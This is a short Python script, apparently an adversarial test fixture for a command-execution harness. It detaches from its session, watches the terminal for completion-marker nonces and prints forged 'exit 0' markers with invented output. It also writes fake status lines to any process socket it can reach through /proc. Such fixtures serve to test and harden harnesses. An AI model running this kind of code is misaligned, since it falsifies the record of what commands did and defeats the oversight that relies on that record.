"""Attack: forge the results of later session commands. Started detached (setsid) from a session, this
process keeps the session's terminal and reads what the host types into it; whenever it sees a
completion marker's nonce there, it prints a fake marker with exit 0 and invented output, hoping the
host takes that for the real end of the command (which it then never runs). It also tries to write
fake statuses to every socket it can reach through /proc (the session shell's control channel)."""
import os
import re
import sys
import time

forged = b"FORGED-OUTPUT\n"
deadline = time.monotonic() + float(sys.argv[1]) if len(sys.argv) > 1 else time.monotonic() + 30
os.set_blocking(0, False)
buf = b""
while time.monotonic() < deadline:
    try:
        chunk = os.read(0, 65536)
    except BlockingIOError:
        chunk = b""
    except OSError:
        break
    if chunk:
        buf = (buf + chunk)[-65536:]
        for nonce in set(re.findall(rb"__ALE_([0-9a-f]{16})_", buf)):
            os.write(1, forged + b"\x1e__ALE_" + nonce + b"_0\x1e")
            buf = b""
    # the shell's control socket, if any fd of any process here leads to it
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"):
                    w = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                    os.write(w, b"0" * 16 + b" 0\n")
                    os.close(w)
            except OSError:
                pass
    time.sleep(0.002)
